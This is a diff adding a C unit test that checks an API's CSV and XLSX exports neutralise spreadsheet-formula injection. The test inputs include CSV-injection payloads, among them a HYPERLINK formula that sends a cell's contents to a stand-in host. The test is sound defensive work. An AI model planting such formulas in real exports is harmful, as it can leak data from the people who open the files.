@@ -1309,6 +1309,69 @@ static void test_public_cases(void **state)
     support_http_cleanup(&anon);
 }
 
+/* ---- CSV injection in exports ------------------------------------------------------------ */
+
+/* A regency operator plants spreadsheet formulas in an action; the national desk's CSV export
+ * (HTTP and CLI, the same bytes) holds them as text behind a ', numbers stay numbers, and the
+ * XLSX export holds them as string cells (no <f> formula element). */
+static void test_export_formula_cells(void **state)
+{
+    (void)state;
+    const char *body = "{\"region\":\"32.73\",\"year\":2033,\"type\":\"pks\",\"title\":\"RAD "
+                       "uji rumus\"}";
+    json_t *v = as(3, "POST", "/api/v1/rad", body, 201);
+    json_int_t id = jint(json_object_get(v, "rad"), "id");
+    json_decref(v);
+    char p[96];
+    snprintf(p, sizeof(p), "/api/v1/rad/%lld/actions", (long long)id);
+    json_decref(
+        as(3, "POST", p,
+           "{\"phase\":\"pencegahan\",\"program\":\"@SUM(1+1)\",\"kegiatan\":"
+           "\"=HYPERLINK(\\\"http://x.test/?d=\\\"&A1,\\\"Klik\\\")\",\"indikator\":\"-2+3\","
+           "\"unit\":\"+62 812 3456 7890\",\"opd\":\"Badan Kesbangpol\",\"anggaran\":"
+           "5000000,\"target\":2,\"focus\":\"potensi_konflik\"}",
+           201));
+    static const char row[] =
+        "\r\n32.73,Kota Bandung,2033,pks,draft,2,1,pencegahan,'@SUM(1+1),"
+        "\"'=HYPERLINK(\"\"http://x.test/?d=\"\"&A1,\"\"Klik\"\")\",'-2+3,2,'+62 812 3456 7890,"
+        "5000000,,Badan Kesbangpol,,potensi_konflik,tidak,,\r\n";
+    struct support_response r;
+    get_as(1, "/api/v1/rad/export?year=2033&region=32.73", 200, &r);
+    if (!strstr(r.body, row))
+        fail_msg("row not in the export:\n%s", r.body);
+    csv_rows_in(r.body, "32.73,", 1);
+
+    struct support_run cli;
+    const char *args[] = {"--db",     db_path, "export",   "plans", "--year", "2033",
+                          "--region", "32.73", "--format", "csv",   NULL};
+    assert_int_equal(support_run(&cli, NULL, args), 0);
+    assert_string_equal(cli.out, r.body);
+    support_run_free(&cli);
+    support_response_free(&r);
+
+    get_as(1, "/api/v1/rad/export?year=2033&region=32.73&format=xlsx", 200, &r);
+    char *xlsx = support_path(tmpdir, "rumus.xlsx");
+    FILE *f = fopen(xlsx, "wb");
+    assert_non_null(f);
+    assert_int_equal(fwrite(r.body, 1, r.len, f), r.len);
+    assert_int_equal(fclose(f), 0);
+    support_response_free(&r);
+    char *sheet = unzip_member(xlsx, "xl/worksheets/sheet1.xml");
+    char *strings = unzip_member(xlsx, "xl/sharedStrings.xml");
+    if (sheet && strings) {
+        assert_null(strstr(sheet, "<f>"));
+        assert_non_null(
+            strstr(strings, "<t>=HYPERLINK(\"http://x.test/?d=\"&amp;A1,\"Klik\")</t>"));
+        assert_non_null(strstr(strings, "<t>@SUM(1+1)</t>"));
+        assert_non_null(strstr(strings, "<t>-2+3</t>"));
+    } else {
+        fprintf(stderr, "unzip not available: XLSX cells not checked\n");
+    }
+    free(sheet);
+    free(strings);
+    free(xlsx);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -1323,6 +1386,7 @@ int main(void)
         cmocka_unit_test(test_evidence),
         cmocka_unit_test(test_cli_import),
         cmocka_unit_test(test_public_cases),
+        cmocka_unit_test(test_export_formula_cells),
     };
     return cmocka_run_group_tests(tests, group_setup, group_teardown);
 }
